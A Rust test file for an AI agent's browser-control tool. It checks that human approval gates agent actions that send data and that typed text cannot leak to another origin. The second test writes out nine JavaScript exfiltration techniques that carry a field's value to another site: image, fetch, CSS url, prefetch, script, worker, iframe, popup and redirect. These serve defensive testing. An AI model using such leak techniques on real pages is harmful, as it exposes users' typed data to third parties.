//! Acts other than a press that lead to something, and reads that give away what was typed.

use std::time::Duration;

use nexus_test_support::ToolResult;
use nexus_test_support::stage::{Page, SOON, Stage};
use serde_json::{Value, json};

use crate::{MEANWHILE, approval, arrived, card, press, set, signed_in, stage_with};

const FIELDS: &str = "<!doctype html><title>Shop</title><button onclick='run()'>Next</button>\
    <label>Note <input id=note oninput=\"if (this.value.length > 5) send('typed')\"></label>\
    <label>Plain <input id=plain></label>\
    <form method=post action=/log/sorted><label>Sort <select name=by onchange='this.form.submit()'>\
    <option>name<option>price</select></label></form>\
    <script>let run = () => {}; const send = (what) => fetch('/log/' + what, {method: 'POST'});\
    addEventListener('keydown', (event) => { if (event.key === 'd') send('deleted') });</script>";

/// Calls a tool with a yes to the act itself, if that is asked about.
fn obey(page: &Page<'_>, tool: &str, arguments: &Value) -> ToolResult {
    let asked = page.call(tool, arguments.clone());
    let is_act = asked.code == "approval_pending" && !asks_to_send(page.stage, asked.fact("approval"));
    if !is_act {
        return asked;
    }
    page.stage.host.human.approve(asked.fact("approval")).expect("it is open");
    page.call(tool, arguments.clone())
}

fn asks_to_send(stage: &Stage, approval: &str) -> bool {
    let view = stage.view();
    let requests = view["requests"].as_array().cloned().unwrap_or_default();
    requests.iter().any(|request| request["approval"] == approval && request["sends"].is_object())
}

/// P13, P14, P50, P55: a key, a text, a choice and an agent's own script send nothing without a yes either; the identical call
/// tells that it was sent.
#[test]
fn whatever_an_agent_does_sends_nothing_without_a_yes() {
    let stage = stage_with([("/", FIELDS)]);
    for (tool, sent) in [
        ("browser_press_key", "POST deleted"),
        ("browser_type", "POST typed"),
        ("browser_select", "POST sorted by=price"),
        ("browser_evaluate", "POST scripted"),
    ] {
        let page = if stage.view()["windows"].as_array().is_none_or(Vec::is_empty) {
            signed_in(&stage)
        } else {
            let view = stage.view();
            let id = |value: &Value| value.as_str().expect("an id").to_owned();
            let window = &view["windows"][0];
            Page { stage: &stage, window: id(&window["window"]), id: id(&window["pages"][0]["page"]) }
        };
        let arguments = match tool {
            "browser_press_key" => json!({"key": "d"}),
            "browser_type" => json!({"ref": page.find("textbox", "Note"), "text": "abcdef"}),
            "browser_select" => json!({"ref": page.find("combobox", "Sort"), "values": ["price"]}),
            _ => json!({"function": "() => fetch('/log/scripted', {method: 'POST'}).then(() => 1)"}),
        };
        let before = arrived(&stage).len();
        let told = obey(&page, tool, &arguments);
        let card = card(&stage);
        std::thread::sleep(MEANWHILE);
        assert_eq!(arrived(&stage).len(), before, "{tool}: {}", told.text);
        stage.host.human.approve(approval(&card)).expect("it is open");
        stage.site.wait_logged(sent, SOON).expect("it goes out");
        let again = page.call(tool, arguments).expect_ok();
        assert!(again.text.contains("has been sent, once"), "{tool}: {}", again.text);
        std::thread::sleep(MEANWHILE);
        assert_eq!(arrived(&stage)[before..], [sent], "{tool}");
    }
    stage.close();
}

/// P38: what an agent typed goes to no other site unseen, by whatever reads; to its own site it does, as a search has to.
#[test]
fn what_was_typed_is_given_to_no_other_site_by_reading() {
    let stage = stage_with([("/", FIELDS)]);
    let page = signed_in(&stage);
    page.type_into("textbox", "Plain", "CANARY plan").expect_ok();
    let other = stage.site.other_origin();
    let value = "document.getElementById('plain').value";
    let away = |name: &str| format!("'{other}/log/{name}?d=' + encodeURIComponent({value})");
    let next = page.find("button", "Next");
    for (name, script) in [
        ("image", format!("new Image().src = {}", away("image"))),
        ("fetch", format!("fetch({}, {{mode: 'no-cors'}})", away("fetch"))),
        ("style", format!("document.body.style.background = 'url(' + {} + ')'", away("style"))),
        (
            "prefetch",
            format!(
                "document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: {}}}))",
                away("prefetch")
            ),
        ),
        (
            "script",
            format!(
                "document.head.append(Object.assign(document.createElement('script'), {{src: {}}}))",
                away("script")
            ),
        ),
        (
            "worker",
            format!(
                "new Worker(URL.createObjectURL(new Blob([`fetch('` + {} + `', {{mode: 'no-cors'}})`])))",
                away("worker")
            ),
        ),
        (
            "frame",
            format!(
                "document.body.append(Object.assign(document.createElement('iframe'), {{src: {}}}))",
                away("frame")
            ),
        ),
        ("popup", format!("open({})", away("popup"))),
        ("whole", format!("location = {}", away("whole"))),
    ] {
        set(&page, &script);
        press(&page, &next);
        let card = card(&stage);
        assert_eq!(card["sends"]["fields"], json!(["d"]), "{name}: {card}");
        std::thread::sleep(Duration::from_millis(200));
        let got = stage.site.log();
        assert!(got.iter().all(|logged| !logged.text.contains(name)), "{name}: {got:?}");
        // The next press is another act for the person, but the same for the rules: those of before are over.
        stage.host.human.take_control(&page.window, None).expect("it can be taken");
        stage.host.human.give_back(&page.window, None).expect("it can be given back");
        page.snapshot();
        page.type_into("textbox", "Plain", "CANARY plan").expect_ok();
    }
    set(&page, &format!("fetch('/log/own?d=' + encodeURIComponent({value}))"));
    press(&page, &page.find("button", "Next"));
    stage.site.wait_logged("GET own", SOON).expect("its own site gets it");
    stage.close();
}

/// What a page sends again and again by itself goes on while an agent works there, until the person wants to be asked; what the
/// agent's act sends beside it waits.
#[test]
fn what_a_page_sends_by_itself_goes_on() {
    let polls = FIELDS.replace("let run", "setInterval(() => send('poll/' + Date.now()), 600); let run");
    let stage = stage_with([("/", polls)]);
    let human = &stage.host.human;
    human.ask("create_profile", json!({"name": "Mine", "kind": "persistent"})).expect("a profile");
    human.ask("grant", json!({"profile": "Mine", "agent": "bench"})).expect("granted");
    let opened = human.ask("open_window", json!({"profile": "Mine", "url": stage.site.url("/")})).expect("a Window");
    let id = |key: &str| opened[key].as_str().expect("an id").to_owned();
    let page = Page { stage: &stage, window: id("window"), id: id("page") };
    let unasked = || stage.view()["windows"][0]["unasked"].clone();
    let poll = json!([{"method": "POST", "to": stage.site.url("/log/poll/*"), "why": "by_itself"}]);
    nexus_test_support::deadline::wait_until("it to be learned", SOON, || (unasked() == poll).then_some(()))
        .expect("it is");
    stage.call("browser_lease_acquire", json!({"window": page.window})).expect_ok();
    set(&page, "send('delete')");
    press(&page, &page.find("button", "Next")).expect_code("approval_pending");
    let polls = || arrived(&stage).iter().filter(|text| text.starts_with("POST poll")).count();
    let before = polls();
    nexus_test_support::deadline::wait_until("more of it", SOON, || (polls() > before + 2).then_some(()))
        .expect("it goes on");
    assert!(!arrived(&stage).iter().any(|text| text.contains("delete")), "{:?}", arrived(&stage));
    let again = json!({"window": page.window, "url": stage.site.url("/log/poll/*")});
    human.ask("ask_again", again).expect("the person can");
    let asked = || {
        let view = stage.view();
        let requests = view["requests"].as_array().cloned().unwrap_or_default();
        requests.into_iter().find(|request| request["sends"]["to"].as_str().is_some_and(|to| to.contains("poll")))
    };
    nexus_test_support::deadline::wait_until("a card for it", SOON, asked).expect("it is asked about again");
    stage.close();
}
